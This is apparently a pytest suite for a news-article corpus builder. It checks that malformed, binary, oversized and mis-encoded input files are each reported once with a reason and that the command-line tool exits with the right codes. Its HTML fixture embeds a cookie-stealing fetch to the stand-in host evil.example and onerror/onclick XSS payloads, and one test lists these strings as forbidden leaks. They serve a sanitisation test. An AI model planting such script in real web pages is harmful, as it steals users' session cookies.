"""The corpus of nasty files an analyst may throw at the tool, and the documented outcome of each.

One folder holds every kind of bad file next to good ones. The build must keep every good article,
report every file exactly once (built / skipped with a reason / partial / duplicate), and the command
line must print one clear line per bad file naming it and the reason, exit 0 when every file built,
1 when some were skipped, 2 on a usage error, and never show a traceback. The table ``OUTCOMES`` is
the one docs/limits.md ("Limits and guarantees") describes.
"""
from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from analysis import schema
from analysis.pipeline import build_corpus
from analysis.reader import MAX_FILE_BYTES

ROOT = Path(__file__).resolve().parent.parent

GOOD = ("Yerevan, 14 February 2025. Foreign Minister Ararat Mirzoyan told parliament that Armenia “cannot rely "
        "on partners who stay silent when our borders are attacked”. Russian Foreign Ministry spokeswoman Maria "
        "Zakharova replied that Yerevan was “following someone else's script”.\n")
RUSSIAN = ("Москва, 2 марта 2025 года. Официальный представитель МИД России Мария Захарова заявила, что Ереван "
           "«разрушает союзнические отношения». Армянская сторона назвала это заявление вмешательством.\n")
HTML = """<!doctype html><html><head><meta charset="utf-8"><title>Border talks stall – Caucasus Monitor</title>
<script>document.cookie = "stolen"; fetch("https://evil.example/" + document.cookie);</script>
<style>body { color: red }</style></head>
<body><nav><a href="/">Home</a> <a href="/world">World</a></nav>
<article><h1>Border talks stall</h1>
<p>Armenian Deputy Prime Minister Mher Grigoryan said on Tuesday that the delimitation commission had made no progress,
and blamed Baku for new demands.</p>
<p>“We came with maps, they came with ultimatums,” Grigoryan told journalists in Yerevan after the meeting.</p>
<p onclick="alert('xss')">Azerbaijan's foreign ministry did not comment. <img src=x onerror="alert(1)"></p>
<script>alert("inline script inside the article")</script>
</article><footer>© Caucasus Monitor</footer></body></html>
"""


def _rows_csv(header: str, *rows: str) -> bytes:
    return "\n".join([header, *rows]).encode()


def nasty_corpus(folder: Path) -> dict[str, tuple[str, str]]:
    """Write the nasty files into ``folder``; return file -> (expected status, a phrase of the reason)."""
    files: dict[str, tuple[bytes, str, str]] = {
        "good.txt": (GOOD.encode(), "built", ""),
        "empty.txt": (b"", "skipped", "file is empty"),
        "blank.txt": (b"  \n\t\n", "skipped", "only whitespace"),
        "binary.txt": (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 8, "skipped", "binary file"),
        "huge.txt": (b"", "skipped", "over the"),  # written below: 20 MB, streamed
        "russian-cp1251.txt": (RUSSIAN.encode("cp1251"), "built", ""),
        "utf16-bom.txt": (GOOD.replace("Mirzoyan", "Mirzoyan (UTF-16)").encode("utf-16"), "built", ""),
        "page-with-scripts.html": (HTML.encode(), "built", ""),
        "no-text-column.csv": (_rows_csv("headline,outlet", "Talks stall,Asbarez"), "skipped", "no 'text' column"),
        "extra-and-missing-cells.csv": (_rows_csv(
            "text,outlet,published",
            '"Armenian officials said the peacekeepers left Nagorno-Karabakh without a word to Yerevan.",Asbarez,2024-06-12,EXTRA,MORE',
            '"Kremlin spokesman Dmitry Peskov said relations with Armenia were going through a difficult period."',
        ), "built", ""),
        "broken-line.jsonl": ("\n".join([
            json.dumps({"text": "Pashinyan's office said the CSTO summit would go ahead without Armenia.", "outlet": "Armenpress"}),
            '{"text": "this line was cut off in the middle of',
            json.dumps({"text": "The Russian embassy in Yerevan protested against the arrest of its citizen on 9 April."}),
        ]).encode(), "partial", "line 2 is not a valid JSON object"),
        "good_copy.txt": (GOOD.encode(), "duplicate", "same text as good.txt"),  # read after good.txt
        "slides.pdf": (b"%PDF-1.4\n%...", "skipped", "unsupported file type"),
    }
    for name, (data, _, _) in files.items():
        if name != "huge.txt":
            (folder / name).write_bytes(data)
    # 20 MB of ordinary text (over the reader's per-file limit), written in chunks to keep the test light.
    line = (GOOD.strip() + " ") * 4 + "\n"
    with open(folder / "huge.txt", "w", encoding="utf-8") as f:
        for _ in range(20 * 1024 * 1024 // len(line) + 1):
            f.write(line)
    return {name: (status, phrase) for name, (_, status, phrase) in files.items()}


@pytest.fixture(scope="module")
def nasty(tmp_path_factory):
    folder = tmp_path_factory.mktemp("nasty")
    expected = nasty_corpus(folder)
    return folder, expected, build_corpus([folder], workers=1)


def test_the_huge_file_is_over_the_limit():
    # The 20 MB fixture only tests the size limit while the limit is below 20 MB.
    assert MAX_FILE_BYTES < 20 * 1024 * 1024


def test_every_nasty_file_gets_its_documented_outcome_exactly_once(nasty):
    folder, expected, result = nasty
    assert sorted(r.file for r in result.report) == sorted(expected)
    for r in result.report:
        status, phrase = expected[r.file]
        assert r.status == status, f"{r.file}: {r.status} ({r.reason})"
        assert phrase in r.reason, f"{r.file}: {r.reason!r} lacks {phrase!r}"
        if status != "built":
            assert r.reason and "\n" not in r.reason and "Traceback" not in r.reason
    assert result.exit_code == 1


def test_every_good_article_is_kept_once_and_the_frames_match_the_schema(nasty):
    _, _, result = nasty
    schema.validate_articles(result.articles)
    schema.validate_statements(result.statements)
    sources = sorted(result.articles["source"])
    assert sources == sorted(["good.txt", "russian-cp1251.txt", "utf16-bom.txt", "page-with-scripts.html",
                              "extra-and-missing-cells.csv#1", "extra-and-missing-cells.csv#2",
                              "broken-line.jsonl#1", "broken-line.jsonl#3"])
    by_source = dict(zip(result.articles["source"], result.articles["text"]))
    assert "Захарова" in by_source["russian-cp1251.txt"]  # decoded, not mojibake
    assert "Mirzoyan (UTF-16)" in by_source["utf16-bom.txt"] and "\ufeff" not in by_source["utf16-bom.txt"]
    row = result.articles.set_index("source").loc["extra-and-missing-cells.csv#1"]
    assert row["outlet"] == "Asbarez" and "EXTRA" not in row["text"]


def test_scripts_and_markup_of_an_html_page_never_become_article_text(nasty):
    _, _, result = nasty
    text = result.articles.set_index("source").loc["page-with-scripts.html", "text"]
    assert "ultimatums" in text
    for leaked in ("document.cookie", "fetch(", "alert", "onerror", "onclick", "<script", "<img", "color: red"):
        assert leaked not in text


def _cli(*args: str, cwd: Path) -> subprocess.CompletedProcess:
    env = dict(os.environ, PYTHONPATH=str(ROOT))
    return subprocess.run([sys.executable, "-m", "analysis", "build", *args], cwd=cwd, env=env,
                          capture_output=True, text=True, timeout=240)


def test_cli_names_each_bad_file_with_its_reason_and_exits_1(nasty, tmp_path):
    folder, expected, _ = nasty
    proc = _cli(str(folder), "--out", str(tmp_path / "out"), "--workers", "1", cwd=tmp_path)
    assert proc.returncode == 1, proc.stderr
    assert "Traceback" not in proc.stderr
    lines = proc.stdout.splitlines()
    for name, (status, phrase) in expected.items():
        mine = [ln for ln in lines if ln.split()[1:2] == [name] or ln.split()[1:2] == [name + ":"]]
        assert len(mine) == 1, f"{name}: {mine}"
        assert mine[0].startswith(status)
        if status != "built":
            assert phrase in mine[0]
    report = json.loads((tmp_path / "out" / "build_report.json").read_text())
    assert sorted(f["file"] for f in report["files"]) == sorted(expected)
    assert (tmp_path / "out" / "articles.parquet").stat().st_size > 0


def test_cli_exits_0_when_every_file_built(tmp_path):
    corpus = tmp_path / "clean"
    corpus.mkdir()
    (corpus / "one.txt").write_text(GOOD, encoding="utf-8")
    (corpus / "two.txt").write_bytes(RUSSIAN.encode("cp1251"))
    proc = _cli(str(corpus), "--out", str(tmp_path / "out"), "--csv", "--workers", "1", cwd=tmp_path)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert "Traceback" not in proc.stderr
    assert proc.stdout.count("built") == 2
    assert (tmp_path / "out" / "statements.csv").read_text(encoding="utf-8").startswith("statement_id,")


@pytest.mark.parametrize("args", [
    ["/no/such/folder/anywhere"],
    ["--workers", "many"],
    ["--engine", "quantum"],
])
def test_cli_usage_errors_exit_2_without_a_traceback(tmp_path, args):
    proc = _cli(*args, "--out", str(tmp_path / "out"), cwd=tmp_path)
    assert proc.returncode == 2
    assert "Traceback" not in proc.stderr
    assert proc.stderr.strip(), "a usage error says what is wrong"
    assert not (tmp_path / "out").exists(), "nothing is written on a usage error"
